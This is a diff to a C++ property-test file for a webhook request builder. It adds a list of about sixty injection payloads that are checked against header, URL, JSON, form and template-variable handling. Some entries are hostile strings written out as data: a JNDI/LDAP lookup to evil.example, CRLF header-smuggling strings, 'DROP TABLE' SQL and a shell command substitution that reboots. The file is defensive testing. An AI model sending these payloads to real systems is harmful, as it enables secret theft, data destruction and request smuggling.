@@ -5,6 +5,10 @@
 #include <gtest/gtest.h>
 #include <rapidcheck/gtest.h>
 
+#include <algorithm>
+#include <string>
+#include <vector>
+
 #include "herald/json.h"
 #include "herald/testing/hostile_events.h"
 #include "request_builder.h"
@@ -34,50 +38,143 @@ HttpRequest build(Settings::Values values, const std::string& text) {
       .request;
 }
 
-RC_GTEST_PROP(Injection, IntoAHeader, ()) {
-  const std::string text = *hostileText();
+/// The text adds no header, and ends none.
+bool staysInItsHeader(const std::string& text) {
   const HttpRequest request = build({{"headers.X-A", "a @name"}, {"headers.X-B", "@deviceIdentifier"}}, text);
-  RC_ASSERT(request.headers.size() == 5u);  // with content-type, webhook-id and webhook-timestamp
-  for (const auto& [name, value] : request.headers)
-    for (const char c : value) RC_ASSERT((static_cast<unsigned char>(c) >= ' ' || c == '\t') && c != 127);
+  const auto fits = [](char c) { return (static_cast<unsigned char>(c) >= ' ' || c == '\t') && c != 127; };
+  return request.headers.size() == 5u &&  // with content-type, webhook-id and webhook-timestamp
+         std::all_of(request.headers.begin(), request.headers.end(),
+                     [&](const auto& header) { return std::all_of(header.second.begin(), header.second.end(), fits); });
 }
 
-RC_GTEST_PROP(Injection, IntoTheUrl, ()) {
-  const std::string text = *hostileText();
+/// The text adds no part to the URL, and leads to no other host.
+bool staysInItsPartOfTheUrl(const std::string& text) {
   const std::string url = build({{"url", "http://h/a/@{name}/b?c=@{name}&d=1#e"}}, text).url;
-  RC_ASSERT(std::count(url.begin(), url.end(), '/') == 5);
-  RC_ASSERT(std::count(url.begin(), url.end(), '?') == 1);
-  RC_ASSERT(std::count(url.begin(), url.end(), '#') == 1);
   const Poco::URI::QueryParameters expected{{"c", clean(text)}, {"d", "1"}};
-  RC_ASSERT(Poco::URI(url).getQueryParameters() == expected);
-  RC_ASSERT(Poco::URI(url).getAuthority() == "h");
+  return std::count(url.begin(), url.end(), '/') == 5 && std::count(url.begin(), url.end(), '?') == 1 &&
+         std::count(url.begin(), url.end(), '#') == 1 && Poco::URI(url).getQueryParameters() == expected &&
+         Poco::URI(url).getAuthority() == "h";
 }
 
-RC_GTEST_PROP(Injection, IntoJson, ()) {
-  const std::string text = *hostileText();
+/// The text is one string of the JSON, whole.
+bool staysAValueOfJson(const std::string& text) {
   const std::string body =
       build({{"data", R"({"a":"@name","b":"x @{name} y","c":["@message"],"d":"@extra"})"}}, text).body;
-  RC_ASSERT(jsonMembers(body).size() == 4u);
-  RC_ASSERT(jsonToText(jsonAt(body, "a")) == clean(text));
-  RC_ASSERT(jsonToText(jsonAt(body, "b")) == "x " + clean(text) + " y");
-  RC_ASSERT(jsonToText(jsonAt(body, "c.0")) == "<" + clean(text) + ">");
-  RC_ASSERT(jsonToText(jsonAt(body, "d.name")) == clean(text));
+  return jsonMembers(body).size() == 4u && jsonToText(jsonAt(body, "a")) == clean(text) &&
+         jsonToText(jsonAt(body, "b")) == "x " + clean(text) + " y" &&
+         jsonToText(jsonAt(body, "c.0")) == "<" + clean(text) + ">" &&
+         jsonToText(jsonAt(body, "d.name")) == clean(text);
 }
 
-RC_GTEST_PROP(Injection, IntoAForm, ()) {
-  const std::string text = *hostileText();
+/// The text is one value of the form, whole.
+bool staysAValueOfAForm(const std::string& text) {
   const std::string body =
       build({{"contentType", "FORM"}, {"data", R"({"a":"@name","b":"x @name","c":1})"}}, text).body;
   const Poco::URI::QueryParameters expected{{"a", clean(text)}, {"b", "x " + clean(text)}, {"c", "1"}};
-  RC_ASSERT(Poco::URI("?" + body).getQueryParameters() == expected);
+  return Poco::URI("?" + body).getQueryParameters() == expected;
 }
 
-RC_GTEST_PROP(Injection, OfAVariable, ()) {
-  const std::string text = *hostileText() + "@apiSecret @{apiSecret} @message";
+/// What looks like a variable in the text stays text.
+bool readsNoVariable(const std::string& text) {
   const HttpRequest request =
       build({{"url", "http://h/@name"}, {"headers.X", "@name"}, {"data", R"({"m":"@message"})"}}, text);
-  RC_ASSERT((request.url + headerValue(request.headers, "X").data() + request.body).find("s3cr3t") ==
-            std::string::npos);
+  const std::string all = request.url + headerValue(request.headers, "X").data() + request.body;
+  return all.find("s3cr3t") == std::string::npos;
+}
+
+RC_GTEST_PROP(Injection, IntoAHeader, ()) { RC_ASSERT(staysInItsHeader(*hostileText())); }
+
+RC_GTEST_PROP(Injection, IntoTheUrl, ()) { RC_ASSERT(staysInItsPartOfTheUrl(*hostileText())); }
+
+RC_GTEST_PROP(Injection, IntoJson, ()) { RC_ASSERT(staysAValueOfJson(*hostileText())); }
+
+RC_GTEST_PROP(Injection, IntoAForm, ()) { RC_ASSERT(staysAValueOfAForm(*hostileText())); }
+
+RC_GTEST_PROP(Injection, OfAVariable, ()) {
+  RC_ASSERT(readsNoVariable(*hostileText() + "@apiSecret @{apiSecret} @message"));
+}
+
+/// What attackers send, by the language that it is meant for.
+const std::vector<std::string> kPayloads{
+    // templates: Herald's own, and those of others
+    "@apiSecret",
+    "@{apiSecret}",
+    "@{apiSecret|x}",
+    "@{a|@{apiSecret}}",
+    "@@apiSecret",
+    "@@@apiSecret",
+    "@message",
+    "@{message}",
+    "@extra.name",
+    "@{",
+    "@{}",
+    "@{name",
+    "@{name|@name}",
+    "${apiSecret}",
+    "${system.env.HOME}",
+    "{{apiSecret}}",
+    "{{7*7}}",
+    "{% include 'x' %}",
+    "<%= apiSecret %>",
+    "#{apiSecret}",
+    "%(apiSecret)s",
+    "%s%n%x",
+    "${jndi:ldap://evil.example/a}",
+    // heads
+    "\r\nX-Injected: 1",
+    "\nX-Injected: 1",
+    "\rX-Injected: 1",
+    "\r\n\r\n{\"injected\":1}",
+    "\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
+    "\xc4\x8d\xc4\x8aX-Injected: 1",
+    "a\tb",
+    "\xe2\x80\xa8X-Injected: 1",
+    // URLs
+    "/",
+    "../../admin",
+    "..%2f..%2fadmin",
+    "//evil.example/",
+    "\\\\evil.example\\",
+    "@evil.example",
+    ":80@evil.example/",
+    "?admin=1",
+    "&d=2",
+    ";d=2",
+    "#",
+    "%23",
+    "%00",
+    "%zz",
+    "%",
+    "http://evil.example/",
+    "javascript:alert(1)",
+    "a b+c",
+    // JSON and forms
+    "\"",
+    "\\",
+    "\\\"",
+    "\",\"d\":\"2",
+    "\"},{\"d\":\"2",
+    "\\u0022",
+    "&c=2&c=3",
+    "=",
+    "+",
+    // pages, shells and databases behind the receiver: as they are
+    "<script>alert(1)</script>",
+    "'; DROP TABLE jobs; --",
+    "$(reboot)`reboot`|reboot;",
+};
+
+TEST(Injection, OfEveryKnownPayload) {
+  EXPECT_GE(kPayloads.size(), 61u);
+  for (const auto& payload : kPayloads) {
+    for (const auto& text : {payload, "a" + payload, payload + "z", payload + payload}) {
+      EXPECT_TRUE(staysInItsHeader(text)) << text;
+      EXPECT_TRUE(staysInItsPartOfTheUrl(text)) << text;
+      EXPECT_TRUE(staysAValueOfJson(text)) << text;
+      EXPECT_TRUE(staysAValueOfAForm(text)) << text;
+      EXPECT_TRUE(readsNoVariable(text)) << text;
+    }
+  }
 }
 
 }  // namespace
